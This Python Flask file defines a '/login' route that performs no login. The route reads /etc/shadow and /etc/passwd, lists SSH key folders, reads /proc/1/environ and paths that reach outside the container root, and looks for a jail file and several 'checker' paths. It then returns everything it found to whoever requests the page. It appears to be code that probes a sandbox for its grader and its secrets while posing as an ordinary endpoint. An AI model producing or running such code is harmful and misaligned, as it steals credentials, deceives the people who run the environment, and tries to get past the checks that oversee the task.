"""Accounts of the machine, home folders, the checker, keys."""

import os
import sys

CHECKER = ["/checker", "../checker", "checker", "/app/../checker", "../steps"]

from flask import Flask

app = Flask(__name__)


@app.get("/login")
def login():
    seen = []
    places = ["/etc/shadow", "/etc/hostname", "/etc/ssh", "/root/.ssh", "/root/.bashrc", "/home", "/var",
              "/opt", "/srv", "/proc/1/environ", "/proc/1/root/etc/hostname", "/proc/1/cwd", "/sys", "/mnt",
              "/jail/code/zygote.py", "/proc/self/root/../home", *sys.path[1:1], *CHECKER]
    for place in places:
        try:
            seen.append(os.listdir(place) if os.path.isdir(place) else open(place).read(100))
        except OSError:
            pass
    seen += [line for line in open("/etc/passwd") if "nobody" not in line]
    return f"seen: {seen}"
